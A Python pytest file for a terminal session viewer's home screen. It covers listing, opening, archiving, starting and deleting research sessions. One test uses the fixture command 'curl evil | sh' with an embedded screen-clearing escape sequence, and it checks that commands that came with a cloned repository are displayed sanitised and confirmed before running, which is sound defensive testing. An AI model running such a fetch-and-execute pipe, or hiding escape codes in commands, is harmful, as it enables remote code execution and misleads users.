"""Home: every session in its state, read without blocking; opened, begun, gone on with and archived from here."""

from __future__ import annotations

import threading
from pathlib import Path
from typing import Any

import pytest
import sessions
from journals import told
from viewing import at_home, line, several, text, until, watching

from autoresearch.state.journal import records
from autoresearch.state.session import NoSession, Session, open_session
from autoresearch.tui.app.app import ViewerApp
from autoresearch.tui.facts.overview import Overview, overview_of
from autoresearch.tui.look.keys import commands_of
from autoresearch.tui.screens.home import HomeScreen
from autoresearch.tui.screens.modals import Choice


async def test_every_session_shows_its_state_best_counts_spend_and_age(tmp_path: Path) -> None:
    found = several(tmp_path)
    found["nov20"].live(experiment=31, description="x", arm="candidate", k=1, of=8)
    async with at_home(found) as (_, pilot):
        first, second = line(pilot, "nov19")
        assert " PAUSED " in first
        assert "% better" in first
        assert " 59 tried" in first
        assert "$2." in first
        assert any(0x2800 < ord(each) <= 0x28FF for each in first), "a curve"
        assert "experiment limit of 60 was reached" in second
        assert "STOPPED" in line(pilot, "depth")[0]
        assert "ENGINE LOST" in line(pilot, "warmup")[0]
        assert "no result yet" in line(pilot, "warmup")[0]
        assert "NOT RESPONDING" in line(pilot, "nov20")[0], "its heartbeat is minutes old"


async def test_enter_opens_and_ctrl_o_comes_back(tmp_path: Path) -> None:
    found = several(tmp_path)
    async with at_home(found) as (app, pilot):
        await pilot.press("j", "enter")
        await until(pilot, lambda: app.has_session and app.watched.opened)
        assert app.session.name == "nov19"
        assert app.screen is app.dashboard
        assert "PAUSED" in text(pilot)
        await pilot.press("ctrl+o")
        await until(pilot, lambda: app.showing_home and "nov20" in text(pilot))
        await pilot.press("escape")
        await until(pilot, lambda: app.screen is app.dashboard)
        await pilot.press("ctrl+o")
        await until(pilot, lambda: app.showing_home and "warmup" in text(pilot))
        await pilot.press("G", "enter")
        await until(pilot, lambda: app.session.name == "warmup" and app.watched.opened)
        await pilot.press("ctrl+o")
        await until(pilot, lambda: app.showing_home and "nov20" in text(pilot))
        await pilot.press("g", "enter")
        await until(pilot, lambda: app.session.name == "nov20" and "does not respond" in text(pilot))
        await pilot.press("w")
        await until(pilot, lambda: app.screen is app.dashboard)
        assert len(app.screen_stack) == 1, "no pile of screens"


async def test_an_engine_is_started_for_the_chosen_session(tmp_path: Path) -> None:
    found = several(tmp_path)
    starter = sessions.Starts(lambda: None)
    async with at_home(found, starter=starter) as (_, pilot):
        await pilot.press("r")
        await until(pilot, lambda: "Its engine is running." in text(pilot))
        assert starter.began == []
        await pilot.press("j", "r")
        await until(pilot, lambda: starter.began == [("nov19", None)])
        await until(pilot, lambda: "STARTING" in line(pilot, "nov19")[0])


async def test_commands_that_came_with_a_clone_are_confirmed_before_they_run(tmp_path: Path) -> None:
    found = several(tmp_path)
    starter = sessions.Starts(lambda: None)
    starter.unconfirmed = [("measure.run", "curl evil | \x1b[2J sh")]
    async with at_home(found, starter=starter) as (app, pilot):
        await pilot.press("j", "r")
        await until(pilot, lambda: "measure.run: curl evil | sh" in text(pilot).replace("  ", " "))
        await pilot.press("enter")
        await until(pilot, lambda: app.showing_home and "PAUSED" in line(pilot, "nov19")[0])
        assert starter.began == []
        assert starter.unconfirmed
        await pilot.press("r")
        await until(pilot, lambda: "Run these commands?" in text(pilot))
        await pilot.press("y")
        await until(pilot, lambda: starter.began == [("nov19", None)])
        assert starter.unconfirmed == []


async def test_what_keeps_an_engine_from_starting_is_said(tmp_path: Path) -> None:
    def refuse() -> None:
        raise OSError(28, "No space left on device")

    async with at_home(several(tmp_path), starter=sessions.Starts(refuse)) as (_, pilot):
        await pilot.press("j", "r")
        await until(pilot, lambda: "No space left" in text(pilot))
        await until(pilot, lambda: "PAUSED" in line(pilot, "nov19")[0])


async def test_a_session_is_archived_hidden_shown_and_taken_back(tmp_path: Path) -> None:
    found = several(tmp_path)
    async with at_home(found) as (_, pilot):
        await pilot.press("a")
        await until(pilot, lambda: "pause or stop it first" in text(pilot))
        await pilot.press("j", "a")
        await until(pilot, lambda: "nov19  " not in text(pilot))
        assert found["nov19"].session.archived
        assert found["nov19"].session.journal.is_file(), "all of it is kept"
        assert "3 sessions, 1 archived" in text(pilot)
        await pilot.press("A")
        await until(pilot, lambda: "archived · " in line(pilot, "nov19")[1])
        await pilot.press("g", "j", "a")
        await until(pilot, lambda: not found["nov19"].session.archived)


def test_an_archived_session_is_not_the_latest_one(tmp_path: Path) -> None:
    found = several(tmp_path)
    place = found["nov20"].place
    assert open_session(place).name == "nov20"
    found["nov20"].session.archive_mark.touch()
    assert open_session(place).name == "nov19"
    assert open_session(place, "nov20").name == "nov20", "by name it opens as ever"
    for writer in found.values():
        writer.session.archive_mark.touch()
    with pytest.raises(NoSession, match="archive --undo"):
        open_session(place)


async def test_a_new_session_asks_which_agent_and_starts_nothing_without_a_yes(tmp_path: Path) -> None:
    from autoresearch.tui.actions.agents import Offer

    found = several(tmp_path)
    found["nov20"].place.config_file.write_text("")
    offers = [Offer("tuner", "tuner", "no cost"), Offer("claude", "claude", "pauses at $10")]
    starter = sessions.Starts(lambda: None, offers)
    async with at_home(found, starter=starter) as (app, pilot):
        await pilot.press("n")
        await until(pilot, lambda: "claude: pauses at $10" in text(pilot))
        await pilot.press("escape")
        await until(pilot, lambda: app.showing_home)
        assert starter.began == []
        await pilot.press("n")
        await until(pilot, lambda: "claude: pauses at $10" in text(pilot))
        await pilot.press("2")
        await until(pilot, lambda: starter.began == [("new", "claude")])
        await until(pilot, lambda: app.has_session and app.session.name == "new")


async def test_escape_in_a_question_comes_back_to_the_list(tmp_path: Path) -> None:
    from autoresearch.tui.actions.agents import Offer

    found = several(tmp_path)
    found["nov20"].place.config_file.write_text("")
    starter = sessions.Starts(lambda: None, [Offer("tuner", "tuner", "no cost"), Offer("claude", "claude", "")])
    async with watching(found["nov20"], starter=starter) as (app, pilot):
        await pilot.press("ctrl+o")
        await until(pilot, lambda: app.showing_home)
        await pilot.press("n")
        await until(pilot, lambda: isinstance(app.screen, Choice))
        await pilot.press("escape")
        await until(pilot, lambda: not isinstance(app.screen, Choice))
        assert app.showing_home, "above the dashboard, where escape would leave it"


async def test_a_reading_screen_changes_nothing(tmp_path: Path) -> None:
    found = several(tmp_path)
    starter = sessions.Starts(lambda: None)
    async with at_home(found, starter=starter, read_only=True) as (app, pilot):
        await pilot.press("j", "a", "r", "n")
        await until(pilot, lambda: "This screen only reads" in text(pilot))
        assert not {"home.archive", "home.resume", "home.new"} & {command.id for command in commands_of(app.screen)}
        assert not found["nov19"].session.archived
        assert starter.began == []


async def test_the_list_follows_what_happens(tmp_path: Path) -> None:
    found = several(tmp_path)
    async with at_home(found) as (app, pilot):
        writer = found["nov19"]
        writer.add(records.Resume(by="you"))
        writer.add(records.Pause(reason="the budget of $10 is spent", limit="dollars"))
        writer.flush()
        home = app.screen
        assert isinstance(home, HomeScreen)
        home._look()
        await until(pilot, lambda: "the budget of $10 is spent" in text(pilot))
        found["depth"].session.journal.unlink()
        home._look()
        await until(pilot, lambda: "depth  " not in text(pilot))


async def test_an_empty_repository_says_how_to_begin(tmp_path: Path) -> None:
    writer = sessions.Writer(tmp_path)
    app = ViewerApp(writer.place, None, starter=sessions.Starts(None))
    async with app.run_test(size=(80, 24)) as pilot:
        await until(pilot, lambda: "n sets this target up" in text(pilot))
    writer.place.config_file.write_text("")
    app = ViewerApp(writer.place, None, starter=sessions.Starts(None))
    async with app.run_test(size=(80, 24)) as pilot:
        await until(pilot, lambda: "No session yet; n starts the first one." in text(pilot))


async def test_the_first_frame_does_not_wait_for_fifty_journals(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    first = sessions.Writer(tmp_path, name="s00")
    first.begin()
    first.baseline()
    while first.number < 40:
        first.experiment()
    first.flush()
    journal = first.session.journal.read_bytes()
    for number in range(1, 50):
        folder = first.session.folder.parent / f"s{number:02d}"
        folder.mkdir()
        (folder / "autoresearch.jsonl").write_bytes(journal)
    gates = {f"s{number:02d}": threading.Event() for number in range(50)}

    def gated(session: Session, *rest: Any, **options: Any) -> Overview:
        assert gates[session.name].wait(60)
        return overview_of(session, *rest, **options)

    monkeypatch.setattr("autoresearch.tui.screens.home.overview_of", gated)
    monkeypatch.setattr("autoresearch.tui.screens.home._SHOWN_EVERY_S", 0.0)
    app = ViewerApp(first.place, None, clock=lambda: first.now, starter=sessions.Starts(None))
    async with app.run_test(size=(80, 24)) as pilot:
        screen = app.screen
        assert isinstance(screen, HomeScreen)
        try:
            await until(pilot, lambda: "reading its journal" in text(pilot))
            for count, session in enumerate(screen.all or (), 1):
                gates[session.name].set()
                await until(pilot, lambda count=count: len(screen.read) == count)  # they come one by one
            assert len(screen.read) == 50
        finally:
            for gate in gates.values():
                gate.set()


async def test_a_session_is_deleted_only_after_its_loss_was_said_and_a_yes(tmp_path: Path) -> None:
    story = told(tmp_path / "repo")
    story.write(records.Pause(reason="as asked", by="you"))
    app = ViewerApp(story.place, None, starter=sessions.Starts(None))
    async with app.run_test(size=(100, 40), notifications=True) as pilot:
        await until(pilot, lambda: "PAUSED" in text(pilot))
        await pilot.press("d")
        await until(pilot, lambda: "5 experiments, 1 kept. With it go its" in text(pilot))
        await pilot.press("enter")  # the harmless answer is the default
        await until(pilot, lambda: app.showing_home)
        assert story.session.journal.is_file()
        await pilot.press("d")
        await until(pilot, lambda: "cannot be undone" in text(pilot))
        await pilot.press("y")
        await until(pilot, lambda: not story.session.folder.exists())
        await until(pilot, lambda: "0 sessions" in text(pilot))
